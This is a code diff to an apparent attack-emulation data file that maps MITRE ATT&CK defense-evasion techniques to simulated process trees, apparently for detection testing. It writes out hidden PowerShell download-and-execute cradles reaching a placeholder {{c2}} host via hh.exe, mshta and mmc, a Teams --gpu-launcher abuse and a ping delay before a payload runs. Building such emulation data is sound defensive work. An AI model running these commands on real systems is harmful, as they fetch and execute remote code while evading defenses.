@@ -33,7 +33,8 @@ export const defenseEvasion2B = [
   t("T1218.001", "Compiled HTML file", "hh.exe opening a CHM with embedded script.", [
     v("hh-local", [
       { cmd: "hh.exe {{downloads}}\\{{Manual|Help|Guide}}.chm", as: "hh" },
-      { cmd: "cmd.exe /c powershell -w hidden -nop -c IEX(iwr http://{{c2}}/c)", parent: "hh" },
+      { cmd: "cmd.exe /c powershell -w hidden -nop -c IEX(iwr http://{{c2}}/c)", parent: "hh", as: "c" },
+      { cmd: "powershell  -w hidden -nop -c IEX(iwr http://{{c2}}/c)", parent: "c", net: [["{{c2}}", 80]] },
     ]),
     v("hh-remote", [{ cmd: "hh.exe http://{{c2}}/{{rand}}.chm", net: [["{{c2}}", 80]] }]),
   ]),
@@ -62,7 +63,15 @@ export const defenseEvasion2B = [
   t("T1218.005", "Mshta", "mshta running remote HTA, inline VBScript/JavaScript, or spawned by Office.", [
     v("mshta-url", [{ cmd: "mshta.exe http://{{c2}}/{{rand}}.hta", net: [["{{c2}}", 80]] }]),
     v("mshta-vbscript", [
-      'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -c IEX(iwr http://{{c2}}/a)"",0:close")',
+      {
+        cmd: 'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -c IEX(iwr http://{{c2}}/a)"",0:close")',
+        as: "mshta",
+      },
+      {
+        cmd: "powershell -nop -w hidden -c IEX(iwr http://{{c2}}/a)",
+        parent: "mshta",
+        net: [["{{c2}}", 80]],
+      },
     ]),
     v("mshta-file", [{ cmd: "mshta.exe {{downloads}}\\{{rand}}.hta", parent: "@explorer" }], {
       shell: "none",
@@ -127,7 +136,8 @@ export const defenseEvasion2B = [
   t("T1218.014", "MMC", "mmc.exe opening an .msc with a malicious snap-in.", [
     v("mmc-msc", [
       { cmd: "mmc.exe -Embedding {{tmp}}\\{{rand}}.msc", as: "mmc" },
-      { cmd: "cmd.exe /c powershell -w hidden -c iex(iwr http://{{c2}}/m)", parent: "mmc" },
+      { cmd: "cmd.exe /c powershell -w hidden -c iex(iwr http://{{c2}}/m)", parent: "mmc", as: "c" },
+      { cmd: "powershell  -w hidden -c iex(iwr http://{{c2}}/m)", parent: "c", net: [["{{c2}}", 80]] },
     ]),
     v(
       "grimresource",
@@ -141,7 +151,21 @@ export const defenseEvasion2B = [
     "A signed Electron app (Teams, VS Code) started with --gpu-launcher or a node option.",
     [
       v("gpu-launcher", [
-        '"{{local}}\\Microsoft\\Teams\\current\\Teams.exe" --disable-gpu-sandbox --gpu-launcher="C:\\Windows\\system32\\cmd.exe /c calc &&"',
+        {
+          cmd: '"{{local}}\\Microsoft\\Teams\\current\\Teams.exe" --disable-gpu-sandbox --gpu-launcher="C:\\Windows\\system32\\cmd.exe /c calc &&"',
+          as: "teams",
+        },
+        // Electron prefixes the GPU process command line with the launcher; cmd runs calc first.
+        {
+          cmd: 'C:\\Windows\\system32\\cmd.exe /c calc && "{{local}}\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process --disable-gpu-sandbox',
+          parent: "teams",
+          as: "c",
+        },
+        { cmd: "calc", parent: "c" },
+        {
+          cmd: '"{{local}}\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process --disable-gpu-sandbox',
+          parent: "c",
+        },
       ]),
       v("code-tunnel", [
         '"{{local}}\\Programs\\Microsoft VS Code\\Code.exe" --inspect=9229 {{tmp}}\\{{rand}}.js',
@@ -233,7 +257,17 @@ export const defenseEvasion2B = [
     ),
   ]),
   t("T1497.003", "Time based checks", "Long sleeps or ping delays before execution.", [
-    v("ping-delay", ["cmd.exe /c ping 127.0.0.1 -n 300 > nul & start {{tmp}}\\{{rand}}.exe"]),
+    v("ping-delay", [
+      { cmd: "cmd.exe /c ping 127.0.0.1 -n 300 > nul & start {{tmp}}\\{{rand}}.exe", as: "c" },
+      // ping -n 300 takes about 300 s; only then does cmd start the payload.
+      {
+        cmd: "ping  127.0.0.1 -n 300",
+        parent: "c",
+        keep: true,
+        then: [{ id: "done", kind: "process.terminate", delayMs: 299000 }],
+      },
+      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c" },
+    ]),
     v("timeout", ["timeout /t 600 /nobreak"]),
   ]),
 ];
